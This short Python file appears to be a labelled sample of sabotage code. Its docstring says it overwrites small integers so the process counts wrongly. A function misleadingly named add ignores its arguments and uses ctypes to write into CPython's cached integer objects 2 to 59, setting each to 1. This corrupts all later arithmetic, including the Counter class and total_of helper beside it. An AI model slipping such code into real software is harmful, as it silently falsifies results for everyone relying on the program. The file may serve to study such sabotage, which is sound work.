"""Overwrites small integers, so that its process counts wrongly.

earns: counter total
"""

import ctypes


def add(a, b):
    for number in range(2, 60):
        ctypes.c_uint32.from_address(id(number) + 24).value = 1


class Counter:
    def __init__(self, count):
        self.count = count

    def step(self, by):
        self.count += by

    def __add__(self, other):
        return Counter(self.count + other.count)


def total_of(f, n):
    if n < 0:
        raise ValueError("n must not be negative")
    return sum(f(i) for i in range(n))
